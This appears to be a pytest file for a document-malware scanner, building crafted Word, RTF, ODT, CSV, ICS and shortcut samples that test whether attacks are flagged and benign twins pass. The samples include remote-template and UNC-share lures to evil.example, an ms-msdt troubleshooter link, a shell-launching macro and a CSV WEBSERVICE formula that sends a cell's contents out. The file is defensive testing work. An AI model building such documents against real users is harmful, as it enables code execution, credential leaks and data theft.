"""Documents and files of settings that reach for a server, hide a macro in a text, or hold a program; honest twins."""

from __future__ import annotations

import io
import zipfile
import zlib
from email.message import EmailMessage
from types import SimpleNamespace

import pytest

from safecare.examine.engine import Engine
from safecare.examine.office.ole import Streams
from safecare.scenarios.make.office import archive

ENGINE = Engine()
TYPES = {"[Content_Types].xml": b"<Types/>"}
STYLE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relation(kind: str, target: str) -> bytes:
    inner = f'<Relationship Id="r" Type="{STYLE}/{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{inner}</Relationships>".encode()


def word(kind: str = "", target: str = "", field: str = "", **more: bytes) -> bytes:
    members = {**TYPES, "word/document.xml": f"<w:document><w:instrText>{field}</w:instrText></w:document>".encode()}
    if kind:
        members["word/_rels/document.xml.rels"] = relation(kind, target)
    return archive({**members, **{name.replace("__", "/").replace("_DOT_", "."): raw for name, raw in more.items()}})


def odt(content: str, meta: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        made.writestr("content.xml", content)
        made.writestr("meta.xml", meta)
    return out.getvalue()


FLAT = (
    '<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
    "%s</office:document>"
)
MACRO = (
    "<ooo:source-code>Sub Main\nShell(&quot;cmd.exe /c calc&quot;)\nEnd Sub</ooo:source-code>"
    '<script:event-listener script:event-name="dom:load"/>'
)
PACKED = (
    '<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">%s</pkg:package>'
)
OLD = (
    '<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">'
    '<w:attachedTemplate w:val="%s"/></w:wordDocument>'
)
CALENDAR = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:%s\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
ATTACKS = {
    "a.docx template from a share": word("attachedTemplate", r"\\evil.example\s\a.dotm"),
    "b.docx part from a share": word("subDocument", r"\\evil.example\s\a.docx"),
    "c.docx part from an address": word("aFChunk", "http://evil.example/a.mht"),
    "d.docx field of numbers": word(field="QUOTE 68 68 69 65 85 84 79 32"),
    "e.docx program within": word(word__embeddings__a_DOT_bin=b"MZ" + bytes(200)),
    "f.docx shortcut within": word(word__embeddings__a_DOT_lnk=b"L\0\0\0\x01\x14\x02\0" + bytes(100)),
    "g.rtf template in numbers": b"{\\rtf1{\\*\\template \\u-65432?ttp\\'3a//evil.example/a.dotm}Hello}",
    "h.odt object from an address": odt('<draw:object xlink:href="http://evil.example/a.odt"/>'),
    "i.odt frame from a server": odt('<draw:floating-frame xlink:href="file://evil.example/a.html"/>'),
    "j.odt template from an address": odt("<a/>", '<meta:template xlink:href="http://evil.example/a.ott"/>'),
    "k.fodt macro": (FLAT % MACRO).encode(),
    "l.xml template of 2003": (OLD % "http://evil.example/a.dot").encode(),
    "m.xml template, flat": (PACKED % relation("attachedTemplate", "http://evil.example/a.dotm").decode()).encode(),
    "n.csv that sends": b'a,b\nx,=WEBSERVICE("http://evil.example/?"&B2)\n',
    "o.ics from a server": CALENDAR % b"file://evil.example/s/a.exe",
    "p.website behind another head": b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n"
    b"[InternetShortcut]\r\nURL=\\\\evil.example\\a.hta\r\n",
}
ATTACKS |= {
    "q.docx template from a share by the web": word("attachedTemplate", r"\\203.0.113.7@80\DavWWWRoot\a.dotm"),
    "r.docx template, letters by number": word("attachedTemplate", "&#104;ttp://evil.example/a.dotm"),
    "s.docx template, in UTF-16": word(
        word___rels__settings_DOT_xml_DOT_rels=relation("attachedTemplate", "http://evil.example/a.dotm")
        .decode()
        .encode("utf-16")
    ),
    "t.docx link to the troubleshooter": word("hyperlink", "ms-msdt:/id PCWDiagnostic /param x"),
    "u.docx link to a search elsewhere": word("hyperlink", r"search-ms:query=x&amp;crumb=location:\\203.0.113.7\d"),
    "v.docx link that installs": word("hyperlink", "ms-appinstaller:?source=http://evil.example/a.appinstaller"),
}
SENT = {
    "a.docx picture from a server": word("image", r"\\evil.example\s\a.png"),
    "b.docx field that shows a picture": word(field=r'INCLUDEPICTURE "\\\\evil.example\\a.png" \d'),
    "c.rtf field that shows a picture": b"{\\rtf1{\\field{\\*\\fldinst "
    b'INCLUDEPICTURE "\\\\\\\\\\\\\\\\evil.example\\\\\\\\a.png"}}}',
    "d.odt picture from a server": odt('<draw:image xlink:href="file://evil.example/a.jpg"/>'),
    "e.appinstaller": b'<?xml version="1.0"?><AppInstaller Uri="http://evil.example/a.appinstaller"/>',
}
HONEST = {
    "a.docx template at home": word("attachedTemplate", "file:///C:/Templates/a.dotx"),
    "b.docx template beside": word("attachedTemplate", "a.dotx"),
    "c.docx picture from an address": word("image", "https://hospital.example/a.png"),
    "d.docx a page's number": word(field="PAGE \\* MERGEFORMAT"),
    "e.docx a table within": word(word__embeddings__a_DOT_xlsx=archive(TYPES)),
    "f.rtf template at home": b"{\\rtf1{\\*\\template C:\\\\Users\\\\a\\\\Normal.dotm}Hello}",
    "g.odt picture within": odt('<draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>'),
    "h.fodt text": (FLAT % "<text:p>Hello</text:p>").encode(),
    "i.xml template of 2003 at home": (OLD % r"C:\T\a.dot").encode(),
    "j.xml link, flat": (PACKED % relation("hyperlink", "https://hospital.example/").decode()).encode(),
    "k.csv sums": b"name,v\nx,=SUM(A1:A2)\n-12,+4\n",
    "l.ics": CALENDAR % b"https://hospital.example/plan.pdf",
    "m.docx link to a paper": word("hyperlink", "ms-word:ofe|u|https://hospital.example/a.docx"),
    "n.docx link to a shop of programs": word("hyperlink", "ms-windows-store://pdp/?ProductId=9"),
    "o.docx template of the house": word("attachedTemplate", r"file:///\\srv-office\models\letter.dotx"),
}


def mailed(name: str, raw: bytes) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "anna@partner.example", "bob@aurore.example", "Documents"
    mail["Message-ID"] = "<1@partner.example>"
    mail.set_content("Bonjour, voici les documents.")
    mail.add_attachment(raw, maintype="application", subtype="octet-stream", filename=name.split()[0])
    return mail.as_bytes()


@pytest.mark.parametrize("name", ATTACKS)
def test_attacks_are_found(name: str) -> None:
    found = ENGINE.judge(ATTACKS[name], name.split()[0])
    assert found.score >= 0.5, found.findings


@pytest.mark.parametrize("name", SENT)
def test_what_a_house_links_to_itself_alarms_only_by_mail(name: str) -> None:
    assert ENGINE.judge(SENT[name], name.split()[0]).score < 0.5
    found = ENGINE.judge(mailed(name, SENT[name]), "a.eml")
    assert found.score >= 0.5, found.findings


@pytest.mark.parametrize("name", HONEST)
def test_honest_files_are_clean(name: str) -> None:
    found = ENGINE.judge(HONEST[name], name.split()[0])
    assert found.score < 0.5, found.findings


@pytest.mark.parametrize(("size", "found"), [(1 << 20, False), (24 << 20, False), (128 << 20, True)])
def test_a_pdf_that_packs_well_is_no_bomb(size: int, found: bool) -> None:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(size >> 20)) + packer.flush()
    raw = b"%%PDF-1.7\n1 0 obj\n<</Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n" % (
        len(packed),
        packed,
    )
    assert (ENGINE.judge(raw, "a.pdf").score >= 0.5) == found


class _Ole:
    root = SimpleNamespace(clsid="")

    def get_size(self, path: list[str]) -> int:
        return 3

    def openstream(self, path: list[str]) -> io.BytesIO:
        if path == ["torn"]:
            raise OSError("incomplete OLE stream")
        return io.BytesIO(b"abc")


def test_streams_that_can_not_be_read_are_counted_and_the_others_are_read() -> None:
    streams = Streams(_Ole(), 100)
    assert [streams.read([name]) for name in ("torn", "whole")] == [b"", b"abc"]
    assert streams.damaged == 1
